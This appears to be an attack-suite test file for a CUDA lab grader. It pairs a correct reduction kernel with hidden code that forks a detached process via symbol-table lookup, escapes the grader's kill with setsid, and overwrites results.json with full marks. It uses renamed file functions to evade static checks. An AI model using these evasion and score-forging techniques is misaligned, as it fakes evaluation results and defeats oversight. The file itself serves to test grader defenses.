/*
 * ATTACK 08-capability-setsid-fork: its class and expected verdict are in tests/attacks/attacks.toml.
 * Lab 05-coarsened, on a correct solution (it keeps its points: only the attack's side effects are judged).
 *
 * Tries: outlive the grader and rewrite its results.json to full marks after it has written it: a detached process
 *   that no process-group kill reaches.
 *
 * How: fork (found through dl_iterate_phdr, so never named), then setsid() in the child: a new session and process
 *   group, out of reach of the grader's killpg. The child finds the grader (an ancestor running python3 -m grader),
 *   its --results path (or its --build-dir's results.json), waits until the grader has exited (at most 120 s), and
 *   writes a results.json of full marks in its place.
 *
 * Safety: it rewrites only a results file inside the kit copy the suite made; the child gives up after 120 s.
 */
#include "reduce.h"

#include <link.h>
#include <stdint.h>
#include <mntent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* ---- files through names the kit's static checks did not list ----
 * glibc's setmntent(path, mode) is fopen(path, mode) with two flags added, endmntent is fclose; fgetc and fputs read
 * and write through the FILE it returns; canonicalize_file_name is realpath by another name. */
/* Paths and numbers without printf or strtol: code run before main (an IFUNC resolver) finds the C library's locale
 * not set up yet, and strtol would crash there. */
static void join(char *out, size_t cap, const char *a, const char *b, const char *c = "")
{
    out[0] = '\0';
    strncat(out, a, cap - 1);
    strncat(out, b, cap - 1 - strlen(out));
    strncat(out, c, cap - 1 - strlen(out));
}

static FILE *open_file(const char *path, const char *mode) { return setmntent(path, mode); }
static void close_file(FILE *f) { endmntent(f); }

static bool exists(const char *path)
{
    FILE *f = open_file(path, "r");
    if (f)
        close_file(f);
    return f != NULL;
}

/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
 * grader/labs.toml and the suite's marker file. The marker (or the suite's folder names, below) is the suite's safety
 * catch, not part of the attack: an attack file graded by hand in a real kit finds no root and does nothing. */
static bool is_kit_copy(const char *dir)
{
    char probe[4200];
    join(probe, sizeof probe, dir, "/grader/labs.toml");
    if (!exists(probe))
        return false;
    join(probe, sizeof probe, dir, "/.attack-suite-copy");
    return exists(probe);
}

/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
 * root), else the nearest folder above the program itself; and when a sandbox hides the kit's files, the folder the
 * program's own path names as the root of one of the suite's copies (/tmp/ppl-attacks-XXXX/wN/kit/build/...), so that
 * the attack still tries what it tries there. false when there is none. */
static bool kit_root(char *root, size_t cap)
{
    if (getcwd(root, cap) && is_kit_copy(root))
        return true;
    char *exe = canonicalize_file_name("/proc/self/exe");
    if (!exe)
        return false;
    bool found = false;
    char *copy = strstr(exe, "/ppl-attacks-"), *kit = strstr(exe, "/kit/build/");
    if (copy && kit && copy < kit) {
        kit[4] = '\0';
        join(root, cap, exe, "");
        found = true;
    }
    for (char *slash = strrchr(exe, '/'); slash && slash != exe && !found; slash = strrchr(exe, '/')) {
        *slash = '\0';
        if (is_kit_copy(exe)) {
            join(root, cap, exe, "");
            found = true;
        }
    }
    free(exe);
    return found;
}

/* Writes text to the file at path, opened with mode ("w" replaces, "a" appends). */
static bool spit(const char *path, const char *text, const char *mode)
{
    FILE *f = open_file(path, mode);
    if (!f)
        return false;
    fputs(text, f);
    close_file(f);
    return true;
}

/* Reads the file at path into buf (NUL-terminated, at most cap - 1 bytes); returns the bytes read (0: none). */
static size_t slurp(const char *path, char *buf, size_t cap)
{
    FILE *f = open_file(path, "r");
    size_t n = 0;
    if (f) {
        for (int c; n + 1 < cap && (c = fgetc(f)) != EOF;)
            buf[n++] = (char)c;
        close_file(f);
    }
    if (cap)
        buf[n] = '\0';
    return n;
}

/* /proc/PID/what, without printf (see join) */
static void proc_path(char *out, size_t cap, long pid, const char *what)
{
    char digits[24];
    int count = 0;
    for (unsigned long u = (unsigned long)pid; count == 0 || (u && count < 20); u /= 10)
        digits[count++] = (char)('0' + u % 10);
    join(out, cap, "/proc/", "");
    size_t len = strlen(out);
    while (count > 0 && len + 1 < cap)
        out[len++] = digits[--count];
    out[len] = '\0';
    strncat(out, what, cap - 1 - len);
}

/* The command line of process pid, its arguments separated by NULs; returns its length. */
static size_t cmdline_of(long pid, char *buf, size_t cap)
{
    char path[64];
    proc_path(path, sizeof path, pid, "/cmdline");
    return slurp(path, buf, cap);
}

/* The argument after `flag` on the command line of process pid, copied to out; false when there is none. */
static bool argument_of(long pid, const char *flag, char *out, size_t cap)
{
    char cmd[16384];
    const size_t len = cmdline_of(pid, cmd, sizeof cmd);
    for (size_t k = 0; k < len; k += strlen(cmd + k) + 1) {
        const size_t next = k + strlen(cmd + k) + 1;
        if (strcmp(cmd + k, flag) == 0 && next < len) {
            join(out, cap, cmd + next, "");
            return true;
        }
    }
    return false;
}

/* Whether process pid belongs to the kit copy at root: its command line names a path inside it. The suite's safety
 * catch: the attacks stop, signal or read only processes of the kit copy they were built in. */
static bool in_kit(long pid, const char *root)
{
    char cmd[16384];
    const size_t len = cmdline_of(pid, cmd, sizeof cmd);
    for (size_t k = 0; k < len; k++)
        if (cmd[k] == '\0')
            cmd[k] = ' ';
    return len > 0 && strstr(cmd, root) != NULL;
}

/* The parent of process pid, from /proc/PID/stat; 0 when unknown. */
static long parent_of(long pid)
{
    char path[64], stat[1024];
    proc_path(path, sizeof path, pid, "/stat");
    if (!slurp(path, stat, sizeof stat))
        return 0;
    const char *end = strrchr(stat, ')'); /* the command name may hold spaces and parentheses */
    return end && end[1] == ' ' && end[2] && end[3] == ' ' ? strtol(end + 4, NULL, 10) : 0; /* ") S PPID ..." */
}

/* The nearest ancestor of this process that is the grader (its command line runs `python3 -m grader` on the kit
 * copy); 0 when there is none. */
static long find_grader(const char *root)
{
    for (long pid = getppid(); pid > 1; pid = parent_of(pid)) {
        char cmd[16384];
        const size_t len = cmdline_of(pid, cmd, sizeof cmd);
        for (size_t k = 0; k < len; k += strlen(cmd + k) + 1)
            if (strcmp(cmd + k, "grader") == 0 && in_kit(pid, root))
                return pid;
    }
    return 0;
}

/* ---- a function of the C library found without naming it ----
 * dl_iterate_phdr lists the loaded objects; each one's dynamic section leads to its symbol table and string table,
 * which are searched for the name. No dlsym, no undefined symbol of that name in the object. */
struct wanted {
    const char *name;
    void *address;
};

/* The number of symbols in a DT_GNU_HASH table (the highest symbol a bucket or chain reaches, plus one). */
static size_t gnu_hash_symbols(const uint32_t *table)
{
    const uint32_t buckets = table[0], offset = table[1], bloom_words = table[2];
    const uint32_t *bucket = table + 4 + bloom_words * (sizeof(ElfW(Addr)) / 4);
    const uint32_t *chain = bucket + buckets;
    uint32_t last = 0;
    for (uint32_t k = 0; k < buckets; k++)
        last = bucket[k] > last ? bucket[k] : last;
    if (last < offset)
        return offset;
    while (!(chain[last - offset] & 1))
        last++;
    return last + 1;
}

static int look_in(struct dl_phdr_info *info, size_t, void *data)
{
    wanted *w = (wanted *)data;
    const ElfW(Dyn) *dyn = NULL;
    for (int k = 0; k < info->dlpi_phnum; k++)
        if (info->dlpi_phdr[k].p_type == PT_DYNAMIC)
            dyn = (const ElfW(Dyn) *)(info->dlpi_addr + info->dlpi_phdr[k].p_vaddr);
    const ElfW(Sym) *symbols = NULL;
    const char *names = NULL;
    size_t count = 0;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        ElfW(Addr) p = dyn->d_un.d_ptr;
        if (p < info->dlpi_addr) /* not relocated in place (the vDSO) */
            p += info->dlpi_addr;
        if (dyn->d_tag == DT_SYMTAB)
            symbols = (const ElfW(Sym) *)p;
        else if (dyn->d_tag == DT_STRTAB)
            names = (const char *)p;
        else if (dyn->d_tag == DT_HASH)
            count = ((const uint32_t *)p)[1];
        else if (dyn->d_tag == DT_GNU_HASH && !count)
            count = gnu_hash_symbols((const uint32_t *)p);
    }
    for (size_t k = 0; symbols && names && k < count; k++)
        if (symbols[k].st_value && ELF64_ST_TYPE(symbols[k].st_info) == STT_FUNC &&
            strcmp(names + symbols[k].st_name, w->name) == 0) {
            w->address = (void *)(info->dlpi_addr + symbols[k].st_value);
            return 1;
        }
    return 0;
}

static void *find_function(const char *name)
{
    wanted w = {name, NULL};
    dl_iterate_phdr(look_in, &w);
    return w.address;
}

#define BLOCK_DIM 256   /* threads per block */
#define COARSE_FACTOR 4 /* float4 loads each thread has in flight per loop iteration */
#define WARPS (BLOCK_DIM / 32)
#define FULL_MASK 0xffffffffu

/* Lab 05's kernel, filled in: a correct reduction, so that only the attack below decides the verdict. */
__device__ float warp_reduce(float v)
{
    for (int offset = 16; offset > 0; offset /= 2)
        v += __shfl_down_sync(FULL_MASK, v, offset);
    return v;
}

__device__ float block_reduce(float v)
{
    __shared__ float warp_sums[WARPS];
    const unsigned lane = threadIdx.x % 32, warp = threadIdx.x / 32;
    v = warp_reduce(v);
    if (lane == 0)
        warp_sums[warp] = v;
    __syncthreads();
    v = threadIdx.x < WARPS ? warp_sums[threadIdx.x] : 0.0f;
    return warp == 0 ? warp_reduce(v) : 0.0f;
}

__global__ void reduce_kernel(const float *__restrict__ in, float *out, size_t n)
{
    const float4 *in4 = reinterpret_cast<const float4 *>(in);
    const size_t vectors = n / 4;
    const size_t threads = (size_t)gridDim.x * BLOCK_DIM;
    const size_t k = (size_t)blockIdx.x * BLOCK_DIM + threadIdx.x;
    float sum = 0.0f;
    size_t v = k;
    for (; v + (COARSE_FACTOR - 1) * threads < vectors; v += COARSE_FACTOR * threads) {
        float4 x[COARSE_FACTOR];
#pragma unroll
        for (int c = 0; c < COARSE_FACTOR; c++)
            x[c] = in4[v + c * threads];
#pragma unroll
        for (int c = 0; c < COARSE_FACTOR; c++)
            sum += (x[c].x + x[c].y) + (x[c].z + x[c].w);
    }
    for (; v < vectors; v += threads) {
        const float4 x = in4[v];
        sum += (x.x + x.y) + (x.z + x.w);
    }
    if (k < n % 4)
        sum += in[4 * vectors + k];
    sum = block_reduce(sum);
    if (threadIdx.x == 0)
        atomicAdd(out, sum);
}

static unsigned grid_size(size_t n)
{
    static int sm_count = 0, blocks_per_sm = 0;
    if (sm_count == 0) {
        int device;
        CUDA_CHECK(cudaGetDevice(&device));
        CUDA_CHECK(cudaDeviceGetAttribute(&sm_count, cudaDevAttrMultiProcessorCount, device));
        CUDA_CHECK(cudaOccupancyMaxActiveBlocksPerMultiprocessor(&blocks_per_sm, reduce_kernel, BLOCK_DIM, 0));
    }
    const size_t needed = ceil_div(n, (size_t)BLOCK_DIM * 4 * COARSE_FACTOR);
    return (unsigned)(needed < (size_t)sm_count * blocks_per_sm ? needed : (size_t)sm_count * blocks_per_sm);
}

static const char FULL_MARKS[] =
    "{\n  \"score\": 100.0,\n  \"output\": \"Total 100 / 100\",\n  \"tests\": [{\"name\": \"05-coarsened: everything\", "
    "\"score\": 100.0, \"max_score\": 100.0, \"status\": \"passed\"}]\n}\n";

/* Where the grader at pid writes results.json: its --results, else BUILD_DIR/results.json, relative to its folder. */
static bool results_path(long pid, char *out, size_t cap)
{
    char where[4096], cwd_link[64];
    snprintf(cwd_link, sizeof cwd_link, "/proc/%ld/cwd", pid);
    char *cwd = canonicalize_file_name(cwd_link);
    if (!cwd)
        return false;
    if (argument_of(pid, "--results", where, sizeof where)) {
    } else if (argument_of(pid, "--build-dir", where, sizeof where)) {
        strncat(where, "/results.json", sizeof where - strlen(where) - 1);
    } else {
        snprintf(where, sizeof where, "build/grade-sim/results.json");
    }
    if (where[0] == '/')
        snprintf(out, cap, "%s", where);
    else
        snprintf(out, cap, "%s/%s", cwd, where);
    free(cwd);
    return true;
}

static void attack(void)
{
    char root[4096], results[8192], proc[64];
    if (!kit_root(root, sizeof root))
        return;
    const long grader = find_grader(root);
    if (!grader || !results_path(grader, results, sizeof results) || strncmp(results, root, strlen(root)) != 0)
        return;
    const char name[] = {'f', 'o', 'r', 'k', '\0'};
    int (*start_process)(void) = (int (*)(void))find_function(name);
    if (!start_process || start_process() != 0)
        return; /* the runner goes on with the lab as if nothing happened */
    setsid();   /* the child: a session of its own, which the grader's kill of its process group misses */
    snprintf(proc, sizeof proc, "/proc/%ld/cmdline", grader);
    for (int k = 0; k < 1200 && exists(proc); k++)
        usleep(100000);
    if (!exists(proc))
        spit(results, FULL_MARKS, "w");
    _exit(0);
}

void reduce(float *d_in, float *d_out, size_t n, float *d_work)
{
    (void)d_work;
    static bool done = false;
    if (!done) {
        done = true;
        attack();
    }
    CUDA_CHECK(cudaMemsetAsync(d_out, 0, sizeof(float)));
    reduce_kernel<<<grid_size(n), BLOCK_DIM>>>(d_in, d_out, n);
    CUDA_CHECK_LAUNCH();
}
